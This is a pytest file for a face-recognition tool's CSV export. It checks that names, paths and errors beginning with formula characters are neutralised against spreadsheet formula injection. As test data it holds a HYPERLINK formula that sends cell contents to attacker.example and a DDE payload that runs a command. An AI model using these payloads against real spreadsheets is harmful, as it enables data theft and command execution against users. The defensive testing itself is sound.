"""CSV exports neutralise formula injection (OWASP): a name, path or error that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading ``'``, so a spreadsheet shows it as text;
numbers stay numbers. Through ``facerec tag --csv`` (the CLI) and ``write_csv`` (the GUI's export)."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from facerec.library.export import csv_text, write_csv

REPO = Path(__file__).resolve().parent.parent
EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Ann", "", "Ann-Marie", "1+1", "'quoted"])
def test_other_text_is_written_as_it_is(text):
    assert csv_text(text) == text


def test_gui_export_writes_names_paths_and_errors_as_text(tmp_path):
    out = tmp_path / "out.csv"
    records = [
        {"path": "/p/a.jpg", "faces": [{"person": "+Eve", "distance": -0.0, "score": 0.99, "box": [1.0, 2.0, 3.0, 4.0]}], "error": None},
        {"path": "=cmd|' /C calc'!A0", "faces": [], "error": "@error"},
    ]
    write_csv(out, records)
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[1][:3] == ["/p/a.jpg", "'+Eve", "-0.0"]
    assert rows[2][0] == "'=cmd|' /C calc'!A0" and rows[2][-1] == "'@error"


@pytest.mark.slow
def test_cli_tag_csv_neutralises_a_formula_name(tmp_path, fr_faces, sface_installed):
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    db, photos = tmp_path / "g.db", tmp_path / "photos"
    photos.mkdir()
    shutil.copy(fr_faces / "obama" / "obama.jpg", photos / "a.jpg")

    def run(*args):
        return subprocess.run([sys.executable, "-m", "facerec.cli", "--db", str(db), "-q", *args], env=env, capture_output=True, text=True, timeout=300, check=False)

    r = run("enrol", EVIL, str(fr_faces / "obama" / "obama1.jpg"))
    assert r.returncode == 0, r.stderr
    r = run("tag", str(photos), "--csv", str(tmp_path / "out.csv"))
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert rows[1][1] == "'" + EVIL
